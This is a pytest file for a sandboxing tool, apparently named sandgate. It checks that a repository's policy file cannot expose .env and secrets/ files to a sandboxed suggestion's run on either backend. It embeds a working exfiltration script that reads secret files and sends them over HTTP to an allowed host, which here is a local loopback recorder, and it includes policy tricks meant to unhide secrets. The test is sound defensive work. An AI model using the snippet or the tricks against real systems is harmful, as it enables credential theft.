"""A repository's own policy cannot show its user's secrets to a suggestion's run: with
`files.exclude = []` (and the list respelled to leave `.env` out, or `extends` naming a preset
that hides less) beside `network.allow_hosts` naming a loopback server, the run still finds
`.env` empty or absent, and the server hears no secret. Through the real CLI, both backends."""

from __future__ import annotations

import http.server
import os
import shutil
import subprocess
import sys
import tempfile
import threading
import urllib.parse
from pathlib import Path

import pytest

SECRET = "DB_PASSWORD=pw-" + "7c1d9e0b5a2f48e3"

# What a suggestion written to the repository's hand would do: read every `.e*` and `secrets/`
# file it can find and send the lot to the host the repository's policy allows.
SUGGESTION = """\
import os, urllib.parse, urllib.request
found = []
try:
    inside = ["secrets/" + n for n in sorted(os.listdir("/workspace/secrets"))]
except OSError:
    inside = []
for rel in sorted(os.listdir("/workspace")) + inside:
    if rel.startswith((".e", "secrets/")):
        try:
            found.append(rel + "=" + open("/workspace/" + rel).read())
        except OSError as e:
            found.append(rel + "!" + str(e.errno))
blob = urllib.parse.quote("|".join(found) or "nothing")
urllib.request.urlopen("http://127.0.0.1:%d/z?" % PORT + blob, timeout=3).read()
"""


class _Recorder(http.server.BaseHTTPRequestHandler):
    heard: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        type(self).heard.append(urllib.parse.unquote(self.path))
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"ok")

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def listener():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    _Recorder.heard = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1], _Recorder.heard
    server.shutdown()
    server.server_close()


@pytest.fixture
def workspace():
    # Readable by the sandbox user, so bubblewrap binds it (hidden files covered by empty ones).
    top = Path(tempfile.mkdtemp(prefix="sg-ws-test-", dir="/tmp"))
    top.chmod(0o755)
    ws = top / "proj"
    (ws / "secrets").mkdir(parents=True)
    ws.chmod(0o755)
    (ws / "secrets").chmod(0o755)
    (ws / ".env").write_text(SECRET + "\n")
    (ws / ".env").chmod(0o644)  # readable by anyone on the host: only the policy hides it
    (ws / "secrets" / "db.txt").write_text(SECRET + "\n")
    (ws / "secrets" / "db.txt").chmod(0o644)
    (ws / ".sandgate").mkdir()
    yield ws
    shutil.rmtree(top, ignore_errors=True)


POLICIES = {
    "empty": "[files]\nexclude = []\n",
    "respelled": '[files]\nexclude = ["**/.env.example", "**/*.pem"]\n',
    "extends": 'extends = "permissive"\n',  # permissive does not hide secrets/
}


@pytest.mark.parametrize("backend", ["bwrap", "docker"])
@pytest.mark.parametrize("trick", sorted(POLICIES))
def test_a_workspace_policy_cannot_unhide_secrets_from_a_run(backend, trick, workspace, listener, tmp_path):
    port, heard = listener
    (workspace / ".sandgate" / "policy.toml").write_text(
        f'version = 1\n[network]\nallow_hosts = ["127.0.0.1:{port}"]\n' + POLICIES[trick]
        if trick != "extends"
        else f'version = 1\n{POLICIES[trick]}[network]\nallow_hosts = ["127.0.0.1:{port}"]\n'
    )
    (workspace / "sugg.py").write_text(SUGGESTION.replace("PORT", str(port)))
    (tmp_path / "no-managed.toml").write_text("version = 1\n")
    env = {k: v for k, v in os.environ.items() if k != "FORCE_COLOR"}
    env["SANDGATE_MANAGED_POLICY"] = str(tmp_path / "no-managed.toml")
    done = subprocess.run(
        [sys.executable, "-m", "sandgate", "vet", "--no-audit", "--backend", backend, "--format", "json", "sugg.py"],
        cwd=workspace,
        env=env,
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert done.returncode in (0, 1), done.stderr
    # The run reached the server (the way out was open), and what it sent holds no secret.
    assert heard, (done.stdout[-2000:], done.stderr[-2000:])
    sent = " ".join(heard)
    assert "pw-7c1d9e0b5a2f48e3" not in sent, sent
    # The bound workspace: `.env` covered by an empty file, `secrets/` by an empty folder.
    assert heard == ["/z?.env="], heard
    # The refusal is printed, naming the workspace's file and line.
    policy = workspace / ".sandgate" / "policy.toml"
    assert f"sandgate: warning: {policy}:" in done.stderr and "files.exclude" in done.stderr, done.stderr
    assert "never remove from it" in done.stderr
